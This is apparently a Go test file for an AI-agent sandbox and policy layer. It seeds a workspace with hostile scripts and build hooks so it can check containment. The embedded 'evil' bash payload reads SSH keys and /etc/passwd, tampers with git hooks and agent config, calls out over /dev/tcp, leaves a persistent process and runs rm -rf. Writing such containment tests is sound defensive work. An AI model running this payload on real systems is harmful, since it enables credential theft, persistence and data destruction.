package daemon

import (
	"crypto/sha256"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"agentbridge/internal/policy"
	"agentbridge/internal/sandbox"
)

// trapYard is a workspace that wants to get out, and what it wants to get at.
type trapYard struct {
	dir, work string
	fill      *strings.Replacer
	box       *sandbox.Sandbox
	judge     *policy.Policy
	outside   string       // its state
	guarded   string       // the state of what others execute later
	whole     string       // the state of the workspace
	reached   atomic.Int64 // connections to listeners outside
	passwd    string       // a line of the machine's
}

func newYardOfTraps(t *testing.T) *trapYard {
	t.Helper()
	dir, err := os.MkdirTemp("", "y")
	if err == nil {
		dir, err = filepath.EvalSymlinks(dir)
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { remove(dir) })
	l := &trapYard{dir: dir, work: filepath.Join(dir, "work")}
	for _, name := range []string{"pristine/sub", "home/.ssh", "out", "data"} {
		if err := os.MkdirAll(filepath.Join(dir, name), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	l.listen(t, "tcp", "127.0.0.1:0")
	port := l.listen(t, "tcp", "127.0.0.1:0")
	sock, name := filepath.Join(dir, "out", "s"), "agentbridge-test-"+filepath.Base(dir)
	l.listen(t, "unix", sock)
	l.listen(t, "unix", "@"+name)
	l.fill = strings.NewReplacer("{OUT}", filepath.Join(dir, "out"), "{HOME}", filepath.Join(dir, "home"), "{DATA}", filepath.Join(dir, "data"), "{PORT}", port, "{SOCK}", sock, "{NAME}", name)
	for path, text := range map[string]string{
		"out/secret": secretText + "\n", "home/.ssh/id_rsa": secretText + "\n", "data/bridge.key": secretText + "\n", "home/.bashrc": "\n",
		"pristine/notes.txt": "a\nb\n", "pristine/sub/a.txt": "a\n", "pristine/evil.sh": evil, "pristine/run.sh": evil, "pristine/script.sh": evil, "pristine/configure": evil, "pristine/trap": evil,
		"pristine/Makefile":     "all test build check install hello lint:\n\t./evil.sh\n",
		"pristine/package.json": `{"name":"x","version":"1.0.0","scripts":{"test":"./evil.sh","build":"./evil.sh","lint":"./evil.sh","start":"./evil.sh","preinstall":"./evil.sh"}}`,
		"pristine/evil.py":      "import subprocess; subprocess.run(['./evil.sh'])\n", "pristine/setup.py": "import subprocess; subprocess.run(['./evil.sh'])\n",
		"pristine/test_evil.py": "import subprocess, unittest\nsubprocess.run(['./evil.sh'])\n", "pristine/evil.pl": "system './evil.sh';\n",
		"pristine/evil.js": "require('child_process').spawnSync('./evil.sh')\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, path), []byte(l.fill.Replace(text)), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("../out", filepath.Join(dir, "pristine", "link")); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"config", "user.name", "a"}, {"config", "user.email", "a@a"}, {"add", "."}, {"commit", "-q", "-m", "one"}, {"commit", "-q", "--allow-empty", "-m", "two"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = filepath.Join(dir, "pristine")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	text, _ := os.ReadFile("/etc/passwd")
	l.passwd, _, _ = strings.Cut(string(text), "\n")
	l.restore(t)
	l.outside, l.guarded, l.whole = l.state(l.dir, l.work), l.guards(), l.state(l.work, "")
	return l
}

// evil is what the workspace runs, wherever it can: it says that it ran, and tries everything at once.
const evil = `#!/bin/bash
echo ran >> ran
exec 2>/dev/null
cat {OUT}/secret {HOME}/.ssh/id_rsa {DATA}/bridge.key /etc/passwd
echo pwned > {OUT}/pwned; echo pwned > {HOME}/pwned; echo pwned > {DATA}/pwned; echo pwned > /tmp/agentbridge.pwned
echo pwned > .git/hooks/pre-commit; echo pwned >> .git/config; echo pwned > .mcp.json; mkdir -p .github/workflows .claude
echo x > /dev/tcp/127.0.0.1/{PORT}
setsid sleep 86400 &
rm -rf {OUT} {HOME} {DATA}
`

func (l *trapYard) listen(t *testing.T, network, address string) (port string) {
	t.Helper()
	listener, err := net.Listen(network, address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	go func() {
		for {
			c, err := listener.Accept()
			if err != nil {
				return
			}
			l.reached.Add(1)
			c.Close()
		}
	}()
	_, port, _ = net.SplitHostPort(listener.Addr().String())
	return port
}

func remove(dir string) {
	exec.Command("chmod", "-R", "u+rwx", dir).Run()
	os.RemoveAll(dir)
}

// restore makes the workspace anew.
func (l *trapYard) restore(t *testing.T) {
	t.Helper()
	remove(l.work)
	out, err := exec.Command("cp", "-a", filepath.Join(l.dir, "pristine"), l.work).CombinedOutput()
	if err != nil {
		t.Errorf("%v: %s", err, out)
	}
	l.box, err = sandbox.New(sandbox.Options{
		Workspace: l.work, Home: filepath.Join(l.dir, "home"), Hidden: []string{filepath.Join(l.dir, "data")},
		Limits: sandbox.Limits{Time: 2 * time.Second, FileBytes: 4 << 20, TempBytes: 4 << 20, MemoryBytes: 512 << 20, Processes: 512},
	})
	if err == nil && l.box.Tier() != sandbox.Bubblewrap {
		err = fmt.Errorf("the tier is %s: %s", l.box.Tier(), sandbox.Install)
	}
	if err == nil {
		l.judge, err = policy.New(policy.Options{Workspace: l.work})
	}
	if err != nil {
		t.Error(err)
	}
}

type tried struct{ refused, hostile bool }

// try runs a payload if the policy lets it be asked for, and looks at what became of the world.
func (l *trapYard) try(t *testing.T, mode policy.Mode, text string) (outcome tried) {
	text = l.fill.Replace(text)
	root, err := os.OpenRoot(l.work)
	if err != nil {
		t.Error(err)
		return tried{}
	}
	defer root.Close()
	d := l.judge.DecideIn(mode, text, root.FS())
	if d.Verdict == policy.Deny {
		return tried{refused: true}
	}
	res, err := l.box.Run(t.Context(), sandbox.Command{Steps: steps(d)})
	if err != nil {
		t.Errorf("%s %q: %v", mode, text, err)
		return tried{}
	}
	for _, secret := range []string{secretText, l.passwd} {
		if strings.Contains(string(res.Output), secret) && !strings.Contains(text, secret) {
			t.Errorf("%s %q shows %q", mode, text, secret)
		}
	}
	if after := l.state(l.dir, l.work); after != l.outside {
		t.Errorf("%s %q changes what is outside:\n%s", mode, text, changed(l.outside, after))
		l.outside = after
	}
	if n := l.reached.Swap(0); n != 0 {
		t.Errorf("%s %q reaches somebody outside", mode, text)
	}
	if after := l.guards(); after != l.guarded {
		t.Errorf("%s %q changes what others execute later:\n%s", mode, text, changed(l.guarded, after))
	}
	_, err = os.Stat(filepath.Join(l.work, "ran"))
	if l.state(l.work, "") != l.whole {
		l.restore(t)
	}
	return tried{hostile: err == nil}
}

// guards is the state of what others execute from the workspace, or take orders from.
func (l *trapYard) guards() (state string) {
	for _, name := range append([]string{".git/config", ".git/hooks", ".git/commondir"}, sandbox.Protected...) {
		state += l.state(filepath.Join(l.work, name), "")
	}
	return state
}

// state is what there is below a directory, but for one below it, in one text.
func (l *trapYard) state(dir, but string) string {
	var out strings.Builder
	filepath.WalkDir(dir, func(name string, d fs.DirEntry, err error) error {
		if err != nil {
			fmt.Fprintln(&out, name, "cannot be read")
			return nil
		}
		if name == but {
			return filepath.SkipDir
		}
		sum, mode := "", ""
		if info, err := d.Info(); err == nil {
			mode = info.Mode().String()
		}
		if d.Type().IsRegular() {
			text, _ := os.ReadFile(name)
			sum = fmt.Sprintf("%x", sha256.Sum256(text))
		}
		fmt.Fprintln(&out, name, mode, sum)
		return nil
	})
	return out.String()
}

// changed are the lines that are in only one of two texts.
func changed(before, after string) (lines string) {
	for _, pair := range [][3]string{{before, after, "- "}, {after, before, "+ "}} {
		for line := range strings.Lines(pair[0]) {
			if !strings.Contains(pair[1], line) {
				lines += pair[2] + line
			}
		}
	}
	return lines
}
